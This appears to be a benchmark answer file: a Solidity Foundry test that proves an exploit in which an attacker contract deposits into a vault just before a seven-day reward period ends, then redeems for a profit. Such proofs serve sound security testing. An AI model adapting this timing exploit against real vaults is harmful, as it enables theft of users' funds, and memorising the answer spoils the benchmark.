// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function enter(IERC20 usd, IVault vault) external {
        usd.approve(address(vault), type(uint256).max);
        vault.collect(1);
        vault.deposit(usd.balanceOf(address(this)), address(this));
    }

    function leave(IVault vault) external {
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        bonus(40_000e6);
        other = new Attacker();
        usd.mint(address(other), 1_000_000e6);
    }

    function exploit() public {
        vm.warp(block.timestamp + 7 days - 1 minutes);
        other.enter(usd, core);
        vm.warp(block.timestamp + 2 minutes);
        other.leave(core);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 1_015_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
